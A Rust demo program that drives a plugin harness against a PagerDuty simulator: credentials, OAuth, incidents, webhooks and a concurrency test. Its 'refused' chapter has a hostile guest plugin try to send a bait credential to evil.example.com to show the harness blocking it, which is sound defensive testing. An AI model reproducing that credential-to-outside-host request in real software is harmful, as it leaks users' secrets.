//! The whole product in under a minute: builds the PagerDuty component, starts a PagerDuty on
//! loopback, and does by the command `harness` what a newcomer would. Every command is shown as it
//! could be typed, and its output is its own.

#![allow(clippy::print_stdout, reason = "a demo is for reading")]

mod going;

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail};
use going::{Going, follow};
use pagerduty_simulator::Simulator;
use serde_json::json;

const ITEMS: usize = 200;
const LATENCY: Duration = Duration::from_millis(50);

fn main() -> Result<ExitCode> {
    match harness::run_as_worker() {
        Some(code) => Ok(code),
        None => run(),
    }
}

#[tokio::main]
async fn run() -> Result<ExitCode> {
    if std::env::var_os(AS_HARNESS).is_some() {
        let code = harness::run(std::env::args_os(), harness::own_worker()).await;
        return Ok(ExitCode::from(code));
    }
    let plugin = component_build::build_pagerduty()?;
    let hostile = component_build::build_guest("hostile")?;
    let size = std::fs::metadata(&plugin)?.len();
    let simulator = Simulator::builder().start().await.context("the simulator does not start")?;
    // Dropped at the end, also after an error: nothing stays behind.
    let place = tempfile::tempdir()?;
    let demo = Demo::new(&simulator, place.path(), plugin, hostile)?;

    heading("0. What there is");
    println!("The node, a WebAssembly component of {} kB:", size / 1_000);
    println!("{}", demo.plugin.display());
    println!("\nA PagerDuty simulator, over TLS: {}", simulator.origins().rest_us);
    println!("\nBelow, `harness` is this project's command; the options that point it at the");
    println!("simulator are left out.");
    tokio::select! {
        told = demo.tell() => told?,
        _ = tokio::signal::ctrl_c() => bail!("interrupted; everything it made is removed again"),
    }
    Ok(ExitCode::SUCCESS)
}

struct Demo<'a> {
    simulator: &'a Simulator,
    place: &'a Path,
    plugin: PathBuf,
    hostile: PathBuf,
    /// How long names of files are shown.
    shown: Vec<(String, String)>,
}

impl<'a> Demo<'a> {
    fn new(
        simulator: &'a Simulator,
        place: &'a Path,
        plugin: PathBuf,
        hostile: PathBuf,
    ) -> Result<Self> {
        let keys = simulator.us().keys();
        // Closed to others: the command warns of secrets that anybody could read.
        let write = |name: &str, text: &str| -> Result<()> {
            std::fs::write(place.join(name), text)?;
            close(&place.join(name))
        };
        write("token", &keys.user)?;
        write("wrong-token", "u+0123456789abcdefghij")?;
        write("ca.pem", simulator.ca_pem())?;
        let app = simulator.identity().classic_app();
        write("client-secret", &app.client_secret.unwrap_or_default())?;
        let service = &simulator.us().services()[0].id;
        let lines = ["Checkout answers 500", "Payments are slow"].map(|title| {
            json!({"title": title, "service_id": service, "urgency": "high"}).to_string() + "\n"
        });
        write("items.jsonl", &lines.concat())?;
        write("key", &"0f".repeat(32))?;
        let text = |path: &Path| path.display().to_string();
        let shown = vec![
            (text(&plugin), "pagerduty.wasm".to_owned()),
            (text(&hostile), "hostile.wasm".to_owned()),
            (format!("{}/", text(place)), String::new()),
        ];
        Ok(Self { simulator, place, plugin, hostile, shown })
    }

    async fn tell(&self) -> Result<()> {
        heading("1. What it asks for, and the operator's word");
        self.harness(0, &["approve", "PLUGIN", "--yes"]).await?;

        heading("2. A credential: sealed on disk, and never handed to the node");
        self.harness(
            0,
            &[
                "credential",
                "add",
                "pd",
                "--plugin",
                "PLUGIN",
                "--type",
                "api-token",
                "--field",
                "region=us",
                "--secret",
                "api_token=@token",
            ],
        )
        .await?;
        self.harness(0, &["credential", "test", "pd", "--plugin", "PLUGIN"]).await?;

        self.consent().await?;

        heading("4. Reading and writing");
        self.run(0, "service.list", &[]).await?;
        self.run(0, "incident.create", &["--items", "@items.jsonl"]).await?;
        let incident = self.newest();
        let parameters = json!({ "incident_id": incident }).to_string();
        self.run(0, "incident.acknowledge", &["--parameters", &parameters]).await?;
        let note = json!({"incident_id": incident, "content": "Rolling back."}).to_string();
        self.run(0, "incident_note.create", &["--parameters", &note]).await?;
        self.run(0, "log_entry.list", &["--parameters", r#"{"limit":5}"#]).await?;

        self.hear().await?;
        self.many(&incident).await?;

        heading("7. What is refused");
        println!("A plugin sends the credential to a host outside its approval:\n");
        self.refused_host().await?;
        println!("\nA key that PagerDuty does not know:\n");
        self.harness(
            0,
            &[
                "credential",
                "add",
                "wrong",
                "--plugin",
                "PLUGIN",
                "--type",
                "api-token",
                "--field",
                "region=us",
                "--secret",
                "api_token=@wrong-token",
            ],
        )
        .await?;
        self.harness(1, &["run", "PLUGIN", "ability.list", "--credential", "wrong"]).await?;

        heading("8. Cleaning up");
        self.harness(0, &["credential", "disconnect", "team", "--plugin", "PLUGIN", "--yes"])
            .await?;
        self.harness(0, &["credential", "remove", "pd", "--yes"]).await?;
        let violations = self.simulator.violations();
        let judged = self.simulator.requests().len();
        println!("\nThe simulator has judged {judged} requests.");
        // The bad key of chapter 7 is the one thing that it was to object to.
        if let Some(violation) = violations.iter().find(|one| !one.contains("credential")) {
            bail!("PagerDuty would have objected: {violation}");
        }
        Ok(())
    }

    /// The same account by OAuth; the demo is the person in the browser.
    async fn consent(&self) -> Result<()> {
        heading("3. Another by OAuth: consent in a browser, tokens that renew themselves");
        let client_id = format!("client_id={}", self.simulator.identity().classic_app().client_id);
        let args = [
            "credential",
            "connect",
            "team",
            "--plugin",
            "PLUGIN",
            "--type",
            "oauth2",
            "--field",
            &client_id,
            "--client-secret",
            "@client-secret",
            "--access",
            "read-write",
            "--no-browser",
            "--yes",
        ];
        let mut connecting = self.go(&args)?;
        let line = connecting.until("/oauth/authorize?").await?;
        let start = line.find("https://").context("an address is shown")?;
        let url = line[start..].split_whitespace().next().unwrap_or_default();
        println!(
            "\n  (Here somebody chooses their account, reads what is asked for, and consents.)\n"
        );
        let user = &self.simulator.us().users()[0].id;
        let callback = self.simulator.identity().approve(url, user).map_err(anyhow::Error::msg)?;
        follow(&callback).await?;
        connecting.end().await
    }

    /// A webhook: set up, signed, printed, taken down.
    async fn hear(&self) -> Result<()> {
        heading("5. A trigger: a webhook, set up, checked by its signature, taken down");
        let mut listening = self.go(&[
            "trigger",
            "listen",
            "PLUGIN",
            "event",
            "--credential",
            "team",
            "--parameters",
            r#"{"events":["incident.triggered"]}"#,
            "--count",
            "1",
        ])?;
        listening.until("Ctrl-C ends").await?;
        println!("\n  (Meanwhile, something breaks.)\n");
        let service = &self.simulator.us().services()[1].id;
        let broken = json!({"title": "Invoices are late", "service_id": service}).to_string();
        self.quietly("incident.create", &["--parameters", &broken]).await?;
        listening.end().await
    }

    /// Many items at once, and the same one by one.
    async fn many(&self, incident: &str) -> Result<()> {
        heading(&format!("6. {ITEMS} items, each a request that takes {LATENCY:?}"));
        let items = vec![json!({ "incident_id": incident }); ITEMS];
        std::fs::write(self.place.join("many.json"), serde_json::to_vec(&items)?)?;
        self.simulator.set_latency(LATENCY);
        let mut times = Vec::new();
        for concurrency in ["200", "1"] {
            let started = Instant::now();
            let options =
                ["--items", "@many.json", "--concurrency", concurrency, "--format", "json"];
            self.quietly("incident.get", &options).await?;
            times.push(started.elapsed());
            println!(
                "{:>8.2} s   --concurrency {concurrency}",
                times[times.len() - 1].as_secs_f64()
            );
        }
        self.simulator.set_latency(Duration::ZERO);
        let ratio = times[1].as_secs_f64() / times[0].as_secs_f64();
        println!("\nAt once it is {ratio:.0} times as fast as one by one.");
        Ok(())
    }

    async fn refused_host(&self) -> Result<()> {
        self.quiet(&["approve", "HOSTILE", "--yes"]).await?;
        self.quiet(&[
            "credential",
            "add",
            "bait",
            "--plugin",
            "HOSTILE",
            "--type",
            "token",
            "--secret",
            "token=@token",
        ])
        .await?;
        let request = json!({"url": "https://evil.example.com/", "credential": "rest"}).to_string();
        self.harness(
            0,
            &[
                "run",
                "HOSTILE",
                "hostile.request",
                "--credential",
                "rest=bait",
                "--parameters",
                &request,
            ],
        )
        .await
    }

    /// The incident that was opened last.
    fn newest(&self) -> String {
        let mut incidents = self.simulator.us().incidents();
        incidents.sort_by_key(|incident| incident.number);
        incidents.pop().map(|incident| incident.id).unwrap_or_default()
    }

    async fn run(&self, code: u8, action: &str, options: &[&str]) -> Result<()> {
        let mut args = vec!["run", "PLUGIN", action, "--credential", "pd"];
        args.extend(options);
        self.harness(code, &args).await
    }

    /// Shows a command and starts it.
    fn go(&self, args: &[&str]) -> Result<Going> {
        let shown: Vec<String> = args.iter().map(|arg| self.as_shown(arg)).collect();
        println!("$ harness {}", shown.join(" "));
        Going::start(&mut self.command(args)?)
    }

    /// Shows a command and runs it.
    async fn harness(&self, code: u8, args: &[&str]) -> Result<()> {
        let shown: Vec<String> = args.iter().map(|arg| self.as_shown(arg)).collect();
        println!("$ harness {}", shown.join(" "));
        let got = harness::run(self.full(args), harness::own_worker()).await;
        println!();
        if got != code {
            bail!("`harness {}` ended with {got}, not {code}", shown.join(" "));
        }
        Ok(())
    }

    /// Runs a command whose output is not for reading, in a process of its own.
    async fn quiet(&self, args: &[&str]) -> Result<()> {
        let output = self.child(args).await?;
        if !output.status.success() {
            bail!("{}", String::from_utf8_lossy(&output.stderr));
        }
        Ok(())
    }

    async fn quietly(&self, action: &str, options: &[&str]) -> Result<()> {
        let mut args = vec!["run", "PLUGIN", action, "--credential", "pd"];
        args.extend(options);
        self.quiet(&args).await
    }

    async fn child(&self, args: &[&str]) -> Result<std::process::Output> {
        Ok(self.command(args)?.output().await?)
    }

    /// The command, in a process of its own.
    fn command(&self, args: &[&str]) -> Result<tokio::process::Command> {
        let me = std::env::current_exe()?;
        let mut command = tokio::process::Command::new(me);
        command.args(self.full(args).into_iter().skip(1)).env(AS_HARNESS, "1");
        Ok(command)
    }

    /// The arguments as they are: real paths, and where the simulator is.
    fn full(&self, args: &[&str]) -> Vec<OsString> {
        let mut full = vec![OsString::from("harness")];
        for arg in args {
            full.push(match *arg {
                "PLUGIN" => self.plugin.clone().into_os_string(),
                "HOSTILE" => self.hostile.clone().into_os_string(),
                other => match other.split_once('@') {
                    Some((before, file)) if self.place.join(file).exists() => {
                        format!("{before}@{}", self.place.join(file).display()).into()
                    }
                    _ => OsString::from(other),
                },
            });
        }
        let data = self.place.join("data");
        full.extend(["--data-dir".into(), data.into_os_string()]);
        full.extend(["--key-file".into(), self.place.join("key").into_os_string()]);
        let sends = matches!(
            args,
            ["run" | "options" | "trigger", ..]
                | ["credential", "test" | "connect" | "disconnect", ..]
        );
        if sends {
            full.extend(["--ca-file".into(), self.place.join("ca.pem").into_os_string()]);
            for mapping in self.simulator.connect_to() {
                full.extend(["--connect-to".into(), mapping.into()]);
            }
        }
        full
    }

    fn as_shown(&self, arg: &str) -> String {
        let mut text = match arg {
            "PLUGIN" => "pagerduty.wasm".to_owned(),
            "HOSTILE" => "hostile.wasm".to_owned(),
            other => other.to_owned(),
        };
        for (long, short) in &self.shown {
            text = text.replace(long, short);
        }
        if text.contains([' ', '"', '{']) { format!("'{text}'") } else { text }
    }
}

/// Set for a child of the demo that shall be the command itself.
const AS_HARNESS: &str = "WORKFLOW_NODE_DEMO_AS_HARNESS";

fn heading(text: &str) {
    println!("\n── {text} {}", "─".repeat(76_usize.saturating_sub(text.chars().count())));
    println!();
}

/// A key file that others may read is refused.
fn close(path: &Path) -> Result<()> {
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600))?;
    }
    let _ = path;
    Ok(())
}
